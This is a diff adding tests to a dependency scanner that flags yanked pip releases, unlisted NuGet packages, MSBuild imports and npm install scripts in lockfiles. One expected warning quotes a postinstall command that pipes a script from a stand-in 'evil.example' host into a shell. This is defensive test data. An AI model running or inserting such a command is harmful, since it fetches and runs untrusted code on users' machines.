@@ -12,7 +12,14 @@ import { FixtureServer } from '../../helpers/fixtureServer';
 import { readLockTree } from '../../../server/src/manifests/lockfiles/lockTree';
 import { readTextOrUndefined, registriesFor, scopeFor, settingsFor } from '../../helpers/registryScope';
 
-type LockEntry = { version: string; dependencies?: Record<string, string> };
+type LockEntry = { version: string; dependencies?: Record<string, string>; hasInstallScript?: boolean };
+
+/** A fresh folder holding these files; returns the path of the first. */
+function files(contents: Record<string, string>): string {
+  const dir = mkdtempSync(join(tmpdir(), 'mg-tree-files-'));
+  for (const [name, text] of Object.entries(contents)) writeFileSync(join(dir, name), text);
+  return join(dir, Object.keys(contents)[0]);
+}
 
 /** A package.json with its npm v3 lockfile, in a fresh folder; returns the manifest's path. */
 function project(direct: Record<string, string>, locked: Record<string, LockEntry>): string {
@@ -93,6 +100,62 @@ describe('advisories for the locked tree', function () {
     assert.match(publisher?.message ?? '', /published by "mallory", who published none of the 2 earlier versions/);
     const gets = server.requests.filter((r) => r.method === 'GET' && /\/npm\/[^/]+$/.test(r.url)).map((r) => r.url.replace(/^.*\/npm\//, '')).sort();
     assert.deepEqual(gets, ['event-stream', 'hijacked-lib', 'old-lib', 'stream-combiner']);
+  });
+
+  it('reports a yanked release and a release without wheels locked by pip-compile on the requirement that brings them in', async () => {
+    const path = files({
+      'requirements.in': 'flask\n',
+      'requirements.txt': ['flask==3.0.3', '    # via -r requirements.in', 'requests==2.32.0', '    # via flask', 'sdist-only==1.0.0', '    # via requests', ''].join('\n'),
+    });
+    const findings = await scan(path);
+    const yanked = findings.find((f) => f.rule === 'yanked' && f.package === 'requests');
+    assert.ok(yanked, JSON.stringify(findings.map((f) => [f.rule, f.package])));
+    assert.equal(yanked.dependency?.name, 'flask');
+    assert.deepEqual(yanked.via, ['flask', 'requests']);
+    assert.match(yanked.message, /^`requests@2\.32\.0`, a dependency of `flask`, was yanked from 127\.0\.0\.1:\d+: "Broken on Python 3\.8"\. pip installs a yanked release only when pinned to it exactly; choose another version\.$/);
+    const built = findings.find((f) => f.rule === 'install-script' && f.package === 'sdist-only');
+    assert.deepEqual(built?.via, ['flask', 'requests', 'sdist-only']);
+    assert.match(built?.message ?? '', /2 levels below `flask` .*has no wheel, so pip builds it from source/);
+  });
+
+  it('reports the install script of a locked npm package from the registry when the lockfile does not record it, once', async () => {
+    const entry = (name: string, version: string) => ({ version, resolved: `https://registry.npmjs.org/${name}/-/${name}-${version}.tgz`, integrity: 'sha512-AAAA' });
+    // lockfileVersion 1: no `hasInstallScript`, so only the registry can tell.
+    const v1 = files({
+      'package.json': JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { 'event-stream': '3.3.6' } }),
+      'package-lock.json': JSON.stringify({ name: 'app', version: '1.0.0', lockfileVersion: 1, requires: true, dependencies: { 'event-stream': { ...entry('event-stream', '3.3.6'), requires: { 'setup-hook': '2.1.0' } }, 'setup-hook': entry('setup-hook', '2.1.0') } }),
+    });
+    const findings = (await scan(v1)).filter((f) => f.rule === 'install-script' && f.package === 'setup-hook');
+    assert.equal(findings.length, 1, JSON.stringify(findings));
+    assert.equal(findings[0].dependency?.name, 'event-stream');
+    assert.deepEqual(findings[0].via, ['event-stream', 'setup-hook']);
+    assert.equal(findings[0].severity, 'error');
+    assert.match(findings[0].message, /^`setup-hook@2\.1\.0`, a dependency of `event-stream`, runs "postinstall" when installed: `curl -s https:\/\/evil\.example\/x\.sh \| sh` — it downloads a script and pipes it to a shell\.$/);
+
+    // A v3 lockfile records it: the offline rule reports it, the registry's word is not repeated.
+    const v3 = project({ 'event-stream': '3.3.6' }, { 'event-stream': { version: '3.3.6', dependencies: { 'setup-hook': '2.1.0' } }, 'setup-hook': { version: '2.1.0', hasInstallScript: true } });
+    const recorded = (await scan(v3)).filter((f) => f.rule === 'install-script' && f.package === 'setup-hook');
+    assert.equal(recorded.length, 1);
+    assert.match(recorded[0].message, /runs an install script when installed\.$/);
+  });
+
+  it('reports an unlisted version and MSBuild files of packages locked in packages.lock.json', async () => {
+    const transitive = (version: string) => ({ type: 'Transitive', resolved: version, contentHash: 'AAAA' });
+    const path = files({
+      'app.csproj': '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup><ItemGroup><PackageReference Include="Serilog" Version="3.1.1" /></ItemGroup></Project>',
+      'packages.lock.json': JSON.stringify({
+        version: 1,
+        dependencies: { 'net8.0': { Serilog: { type: 'Direct', requested: '[3.1.1, )', resolved: '3.1.1', contentHash: 'AAAA', dependencies: { 'Acme.BuildTools': '1.2.0', 'Old.Package': '1.0.1' } }, 'Acme.BuildTools': transitive('1.2.0'), 'Old.Package': transitive('1.0.1') } },
+      }),
+    });
+    const findings = await scan(path);
+    const unlisted = findings.find((f) => f.rule === 'yanked' && f.package === 'Old.Package');
+    assert.ok(unlisted, JSON.stringify(findings.map((f) => [f.rule, f.package])));
+    assert.deepEqual(unlisted.via, ['Serilog', 'Old.Package']);
+    assert.match(unlisted.message, /^`Old\.Package@1\.0\.1`, a dependency of `Serilog`, is unlisted on /);
+    const build = findings.find((f) => f.rule === 'install-script' && f.package === 'Acme.BuildTools');
+    assert.equal(build?.dependency?.name, 'Serilog');
+    assert.match(build?.message ?? '', /ships MSBuild files imported into every build of this project/);
   });
 
   it('asks about a tree of N packages in ceil(N / 1000) requests', async () => {
